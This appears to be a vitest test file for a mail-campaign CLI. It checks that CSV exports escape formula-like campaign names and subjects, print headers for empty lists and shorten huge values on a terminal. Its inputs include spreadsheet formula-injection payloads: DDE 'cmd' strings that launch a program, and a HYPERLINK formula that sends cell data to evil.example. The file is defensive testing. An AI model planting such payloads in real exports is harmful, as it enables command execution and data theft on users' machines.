// CSV for a person (src/run/output/csv.ts) from a HOSTILE service's words: opened in a spreadsheet,
// a campaign name or subject that starts like a formula must stay text, numbers stay numbers.
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { runCli, tempDir } from './helpers/cli.js';
import { HOSTILE_TEXT, reply, useHostileServer } from './helpers/hostile-server.js';

const hs = useHostileServer();
const CALC = "=cmd|' /C calc'!A0";
const SUM = '@SUM(1+1)*cmd|\' /C calc\'!A0';
const MINUS = "-2+3+cmd|' /C calc'!A0";
const FULLWIDTH = '＝HYPERLINK("http://evil.example/?x="&A1)';

describe('CSV for spreadsheets', () => {
  it('report metrics --csv: formula-like names and subjects are written as text, numbers stay numbers', async () => {
    hs.get().on('POST', '/campaign/v1/report/campaigns/metrics', reply.json([
      { campaignSn: 'CP1', name: CALC, subject: SUM, reportType: 'TOTAL', channel: 'MAIL', recipientCnt: 10, delivered: 8, bounced: 2, opened: 4, clicked: 1, complained: 0, unsubscribed: 0 },
      { campaignSn: 'CP2', name: MINUS, subject: FULLWIDTH, reportType: 'TOTAL', channel: 'MAIL', recipientCnt: 3, delivered: 3, bounced: 0, opened: 0, clicked: 0, complained: 0, unsubscribed: 0 },
    ]));
    const r = await runCli(['report', 'metrics', 'CP1', 'CP2', '--csv'], { env: hs.get().env });
    expect(r.exitCode).toBe(0);
    const rows = parse(r.stdout, { columns: true }) as Array<Record<string, string>>;
    expect(rows.map((x) => [x.name, x.subject])).toEqual([[`'${CALC}`, `'${SUM}`], [`'${MINUS}`, `'${FULLWIDTH}`]]);
    expect(rows[0]).toMatchObject({ code: 'CP1', recipients: '10', delivered: '8', open_rate: '0.5', sent_from: '' });
  });

  it('events --csv: a formula-like subject, even one that starts like a negative number, is written as text', async () => {
    hs.get().on('GET', '/notify/v1/events', reply.json({ logs: [
      { messageId: 'm1', status: 'delivery', eventTime: '2026-01-01T00:00:00Z', mail: { to: 'ann@example.com', subject: MINUS } },
      { messageId: 'm2', status: 'delivery', eventTime: '2026-01-01T00:00:01Z', mail: { to: '+ann@example.com', subject: FULLWIDTH } },
    ] }));
    const r = await runCli(['events', '--since', '7d', '--csv'], { env: hs.get().env });
    expect(r.exitCode).toBe(0);
    const rows = parse(r.stdout, { columns: true }) as Array<Record<string, string>>;
    expect(rows.map((x) => [x.recipient, x.subject])).toEqual([['ann@example.com', `'${MINUS}`], ["'+ann@example.com", `'${FULLWIDTH}`]]);
  });
});

describe('an empty list in CSV is still its header (docs/output.md)', () => {
  const cases: Array<[string, string[], () => void, string]> = [
    ['webhook list', ['webhook', 'list'], () => hs.get().on('GET', '/notify/v1/webhooks', reply.json([])), 'type,event,url,domain,created'],
    ['sms numbers', ['sms', 'numbers'], () => hs.get().on('GET', '/notify/v1/sms/exclusive-number', reply.json({ phoneNumbers: [] })), 'number,created,updated'],
    ['report links', ['report', 'links', 'CP1'], () => hs.get().on('GET', '/campaign/v1/report/CP1/link', reply.json({ Reports: [] })), 'type,created,link'],
    ['report links --out-dir', ['report', 'links', 'CP1', '--out-dir', tempDir('mailctl-csv-links-')], () => hs.get().on('GET', '/campaign/v1/report/CP1/link', reply.json({ Reports: [] })), 'type,file,bytes'],
    ['contacts clean (the plan)', ['contacts', 'clean', '--group', 'G1', '--since', '1h'], () => {
      hs.get().on('GET', '/campaign/v1/contacts/lists', reply.json([{ sn: 'G1', name: 'Quiet' }]));
      hs.get().on('GET', '/notify/v1/events', reply.json({ logs: [] }));
    }, 'address,reason,events,last'],
  ];
  for (const [name, argv, serve, header] of cases) {
    it(`${name} --csv with nothing to list: the header row on stdout, the note on stderr`, async () => {
      serve();
      const r = await runCli([...argv, '--csv'], { env: hs.get().env });
      expect(r.exitCode, r.stderr).toBe(0);
      expect(r.stdout).toBe(`${header}\n`);
      expect(r.stderr).not.toBe('');
    });
  }
});

describe('CSV on a terminal is shortened like a table; piped CSV stays whole', () => {
  const HUGE = HOSTILE_TEXT.huge;
  const serve = () => hs.get().on('POST', '/campaign/v1/report/campaigns/metrics', reply.json([
    { campaignSn: 'CP1', name: HUGE, subject: 'Hello', reportType: 'TOTAL', channel: 'MAIL', recipientCnt: 1, delivered: 1 },
  ]));

  it('report metrics --csv on a terminal: a 200 KB name is cut, with a note of how much', async () => {
    serve();
    const r = await runCli(['report', 'metrics', 'CP1', '--csv'], { env: { ...hs.get().env, NO_COLOR: '1' }, tty: true });
    expect(r.exitCode).toBe(0);
    expect(r.stdout.length).toBeLessThan(5000);
    const [row] = parse(r.stdout, { columns: true }) as Array<Record<string, string>>;
    expect(row.name).toMatch(/^N{100,}… \(\d+ more characters\)$/);
    expect(row.subject).toBe('Hello');
  });

  it('report metrics --csv piped: the 200 KB name whole', async () => {
    serve();
    const r = await runCli(['report', 'metrics', 'CP1', '--csv'], { env: hs.get().env });
    expect(r.exitCode).toBe(0);
    const [row] = parse(r.stdout, { columns: true }) as Array<Record<string, string>>;
    expect(row.name).toBe(HUGE);
  });

  it('campaign status --csv on a terminal (a record): the service\'s 200 KB name is cut too', async () => {
    hs.get().on('GET', '/campaign/v1/campaign/normal/CP1', reply.json([{ sn: 'CP1', name: HUGE, status: 'DONE', type: 'NORMAL' }]));
    const r = await runCli(['campaign', 'status', 'CP1', '--csv'], { env: { ...hs.get().env, NO_COLOR: '1' }, tty: true });
    expect(r.exitCode).toBe(0);
    expect(r.stdout.length).toBeLessThan(5000);
    expect(r.stdout).toMatch(/more characters\)/);
  });
});
